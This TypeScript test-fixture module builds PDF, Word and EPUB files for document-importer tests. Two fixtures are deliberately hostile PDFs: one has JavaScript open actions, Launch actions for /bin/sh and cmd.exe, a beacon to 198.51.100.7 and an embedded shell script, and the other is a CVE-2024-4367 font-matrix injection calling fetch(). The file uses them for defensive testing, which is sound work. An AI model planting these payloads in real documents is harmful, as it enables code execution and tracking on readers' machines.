/**
 * Fixtures for the document importers' tests, made in the test: PDFs with pdf-lib (and one
 * encrypted by hand, which pdf-lib cannot do), Word files and EPUB books zipped with fflate.
 */
import { createHash } from 'node:crypto'
import { strToU8, zipSync, type Zippable } from 'fflate'
import { PDFArray, PDFDict, PDFDocument, PDFName, PDFNumber, PDFString, StandardFonts } from 'pdf-lib'
import type { LineSpec } from '../../../shared/pdf/test-pages'

export interface PdfSpec {
  pages: LineSpec[][]
  title?: string
  author?: string
  /** PageLabels ranges: from page index (0-based), style (r, R, D…) and start number. */
  labels?: { from: number; style: 'r' | 'R' | 'D'; start?: number }[]
}

export async function makePdf(spec: PdfSpec): Promise<Uint8Array> {
  const doc = await PDFDocument.create()
  if (spec.title) doc.setTitle(spec.title)
  if (spec.author) doc.setAuthor(spec.author)
  const regular = await doc.embedFont(StandardFonts.Helvetica)
  const bold = await doc.embedFont(StandardFonts.HelveticaBold)
  for (const lines of spec.pages) {
    const page = doc.addPage([595, 842])
    for (const l of lines) page.drawText(l.text, { x: l.x, y: l.y, size: l.size ?? 10, font: l.bold ? bold : regular })
  }
  if (spec.labels) {
    const nums = doc.context.obj([]) as PDFArray
    for (const r of spec.labels) {
      const dict = doc.context.obj({ S: PDFName.of(r.style) }) as PDFDict
      if (r.start) dict.set(PDFName.of('St'), PDFNumber.of(r.start))
      nums.push(PDFNumber.of(r.from))
      nums.push(dict)
    }
    doc.catalog.set(PDFName.of('PageLabels'), doc.context.obj({ Nums: nums }))
  }
  return doc.save({ useObjectStreams: false })
}

/** A PDF whose one page is an image: no text layer, as a scanner makes. */
export async function scannedPdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create()
  const page = doc.addPage([595, 842])
  page.drawRectangle({ x: 72, y: 600, width: 400, height: 150 })
  return doc.save()
}

/** A PDF with a JavaScript open action, a Launch and a URI link, an embedded file and an XFA form. */
export async function hostilePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create()
  const font = await doc.embedFont(StandardFonts.Helvetica)
  const page = doc.addPage([595, 842])
  page.drawText('A report with hostile parts that must never run.', { x: 72, y: 760, size: 12, font })
  const ctx = doc.context
  const js = ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of("app.alert('pwned'); this.exportDataObject({cName: 'x', nLaunch: 2})") })
  doc.catalog.set(PDFName.of('OpenAction'), ctx.register(js))
  const launch = ctx.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('/bin/sh'), Win: { F: PDFString.of('cmd.exe') } })
  const uri = ctx.obj({ Type: 'Action', S: 'URI', URI: PDFString.of('http://198.51.100.7/beacon') })
  const annots = ctx.obj([
    ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 700, 300, 720], A: launch })),
    ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 660, 300, 680], A: uri }))
  ])
  page.node.set(PDFName.of('Annots'), annots)
  page.node.set(PDFName.of('AA'), ctx.obj({ O: ctx.register(ctx.obj({ S: 'JavaScript', JS: PDFString.of("app.launchURL('http://198.51.100.7/')") })) }))
  await doc.attach(new TextEncoder().encode('#!/bin/sh\necho pwned\n'), 'payload.sh', { mimeType: 'text/x-sh' })
  const xfa = ctx.flateStream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script contentType="application/x-javascript">app.alert(1)</script></xdp:xdp>')
  doc.catalog.set(PDFName.of('AcroForm'), ctx.obj({ Fields: [], XFA: ctx.register(xfa) }))
  return doc.save()
}

/**
 * The shape of CVE-2024-4367: a Type 1 font whose FontMatrix carries JavaScript, which pdf.js
 * before 4.2 compiled into a glyph-drawing function when eval was allowed.
 */
export function fontMatrixPdf(): Uint8Array {
  const payload = "1 0 0 1 0 (0\\); fetch('http://198.51.100.7/') //)"
  const fontFile = `%!PS-AdobeFont-1.0: Evil 001\n/FontMatrix [0.001 0 0 0.001 0 ${payload}] readonly def\n`
  const content = 'BT /F1 12 Tf 72 760 Td (Font matrix payload) Tj ET'
  return assemblePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    `<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FirstChar 32 /LastChar 126 /Widths [${Array(95).fill(500).join(' ')}] /FontMatrix [0.001 0 0 0.001 0 (${payload.replace(/[()\\]/g, '\\$&')})] /FontDescriptor 6 0 R >>`,
    `<< /Type /FontDescriptor /FontName /Evil /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile 7 0 R >>`,
    `<< /Length1 ${fontFile.length} /Length2 0 /Length3 0 /Length ${fontFile.length} >>\nstream\n${fontFile}\nendstream`
  ])
}

/** Objects in order (1 0 obj, 2 0 obj, …) into a PDF with a correct cross-reference table. */
function assemblePdf(objects: string[], trailerExtra = ''): Uint8Array {
  let out = '%PDF-1.4\n'
  const offsets: number[] = []
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'))
    out += `${i + 1} 0 obj\n${body}\nendobj\n`
  })
  const xref = Buffer.byteLength(out, 'latin1')
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`
  for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xref}\n%%EOF\n`
  return Buffer.from(out, 'latin1')
}

const PAD = Buffer.from('28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A', 'hex')

function rc4(key: Buffer, data: Buffer): Buffer {
  const s = Array.from({ length: 256 }, (_, i) => i)
  let j = 0
  for (let i = 0; i < 256; i++) {
    j = (j + s[i]! + key[i % key.length]!) & 255
    ;[s[i], s[j]] = [s[j]!, s[i]!]
  }
  const out = Buffer.alloc(data.length)
  let i = 0
  j = 0
  for (let k = 0; k < data.length; k++) {
    i = (i + 1) & 255
    j = (j + s[i]!) & 255
    ;[s[i], s[j]] = [s[j]!, s[i]!]
    out[k] = data[k]! ^ s[(s[i]! + s[j]!) & 255]!
  }
  return out
}

const md5 = (...parts: Buffer[]) => createHash('md5').update(Buffer.concat(parts)).digest()
const padded = (password: string) => Buffer.concat([Buffer.from(password, 'latin1'), PAD]).subarray(0, 32)

/** A one-page PDF encrypted with the standard security handler (RC4, 40-bit, revision 2). */
export function encryptedPdf(text: string, userPassword: string): Uint8Array {
  const id = Buffer.from('0123456789abcdef0123456789abcdef', 'hex')
  const permissions = -4
  const o = rc4(md5(padded('owner-secret')).subarray(0, 5), padded(userPassword))
  const p = Buffer.alloc(4)
  p.writeInt32LE(permissions)
  const key = md5(padded(userPassword), o, p, id).subarray(0, 5)
  const u = rc4(key, PAD)
  const objectKey = (num: number) => md5(key, Buffer.from([num & 255, (num >> 8) & 255, (num >> 16) & 255, 0, 0])).subarray(0, 10)
  const content = `BT /F1 12 Tf 72 760 Td (${text.replace(/[()\\]/g, '\\$&')}) Tj ET`
  const stream = rc4(objectKey(4), Buffer.from(content, 'latin1')).toString('latin1')
  return assemblePdf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>',
      `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      `<< /Filter /Standard /V 1 /R 2 /O <${o.toString('hex')}> /U <${u.toString('hex')}> /P ${permissions} >>`
    ],
    `/Encrypt 6 0 R /ID [<${id.toString('hex')}> <${id.toString('hex')}>] `
  )
}

export interface DocxSpec {
  /** Paragraphs of WordprocessingML body (w:p elements and tables), as XML. */
  body: string
  footnotes?: string[]
  comments?: number
  core?: { title?: string; creator?: string; created?: string }
  /** Leave word/document.xml out. */
  withoutDocument?: boolean
  /** Extra relationships of word/document.xml (hyperlinks, linked images). */
  rels?: string[]
}

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'

export const para = (text: string, style?: string) =>
  `<w:p>${style ? `<w:pPr><w:pStyle w:val="${style}"/></w:pPr>` : ''}<w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`

export const footnoteRef = (id: number) => `<w:r><w:rPr><w:rStyle w:val="FootnoteReference"/></w:rPr><w:footnoteReference w:id="${id}"/></w:r>`

export function makeDocx(spec: DocxSpec): Uint8Array {
  const files: Zippable = {
    '[Content_Types].xml': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        '<Default Extension="xml" ContentType="application/xml"/>' +
        '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
    ),
    '_rels/.rels': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>'
    )
  }
  const rels: string[] = [...(spec.rels ?? [])]
  if (spec.footnotes) {
    rels.push('<Relationship Id="rIdF" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes" Target="footnotes.xml"/>')
    files['word/footnotes.xml'] = strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><w:footnotes ${W}>` +
        '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:footnote>' +
        spec.footnotes.map((t, i) => `<w:footnote w:id="${i + 1}">${para(t)}</w:footnote>`).join('') +
        '</w:footnotes>'
    )
  }
  if (spec.comments) {
    rels.push('<Relationship Id="rIdC" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/comments" Target="comments.xml"/>')
    files['word/comments.xml'] = strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><w:comments ${W}>` +
        Array.from({ length: spec.comments }, (_, i) => `<w:comment w:id="${i}" w:author="Reviewer">${para(`Comment ${i}`)}</w:comment>`).join('') +
        '</w:comments>'
    )
  }
  // Word always writes its styles; mammoth maps paragraphs by these names.
  files['word/styles.xml'] = strToU8(
    `<?xml version="1.0" encoding="UTF-8"?><w:styles ${W}>` +
      [['Title', 'Title'], ['Heading1', 'heading 1'], ['Heading2', 'heading 2'], ['Quote', 'Quote']]
        .map(([id, name]) => `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${name}"/></w:style>`)
        .join('') +
      '</w:styles>'
  )
  rels.push('<Relationship Id="rIdS" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>')
  files['word/_rels/document.xml.rels'] = strToU8(
    `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels.join('')}</Relationships>`
  )
  if (!spec.withoutDocument) {
    files['word/document.xml'] = strToU8(`<?xml version="1.0" encoding="UTF-8"?><w:document ${W}><w:body>${spec.body}</w:body></w:document>`)
  }
  if (spec.core) {
    const c = spec.core
    files['docProps/core.xml'] = strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">' +
        (c.title ? `<dc:title>${c.title}</dc:title>` : '') +
        (c.creator ? `<dc:creator>${c.creator}</dc:creator>` : '') +
        (c.created ? `<dcterms:created xsi:type="dcterms:W3CDTF">${c.created}</dcterms:created>` : '') +
        '</cp:coreProperties>'
    )
  }
  return zipSync(files)
}

export interface EpubSpec {
  title?: string
  creators?: string[]
  date?: string
  language?: string
  /** Chapters in spine order: file name and body HTML. Manifest order is reversed to prove the spine decides. */
  chapters: { file: string; body: string }[]
  withoutOpf?: boolean
}

export function makeEpub(spec: EpubSpec): Uint8Array {
  const files: Zippable = {
    mimetype: [strToU8('application/epub+zip'), { level: 0 }],
    'META-INF/container.xml': strToU8(
      '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="OEBPS/content.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
    )
  }
  for (const c of spec.chapters) {
    files[`OEBPS/text/${c.file}`] = strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>${c.file}</title></head><body>${c.body}</body></html>`
    )
  }
  if (!spec.withoutOpf) {
    const items = spec.chapters.map((c, i) => `<item id="c${i}" href="text/${c.file}" media-type="application/xhtml+xml"/>`).reverse()
    files['OEBPS/content.opf'] = strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">' +
        (spec.title ? `<dc:title>${spec.title}</dc:title>` : '') +
        (spec.creators ?? []).map((c) => `<dc:creator>${c}</dc:creator>`).join('') +
        (spec.date ? `<dc:date>${spec.date}</dc:date>` : '') +
        (spec.language ? `<dc:language>${spec.language}</dc:language>` : '') +
        `</metadata><manifest>${items.join('')}</manifest><spine>${spec.chapters.map((_, i) => `<itemref idref="c${i}"/>`).join('')}</spine></package>`
    )
  }
  return zipSync(files)
}
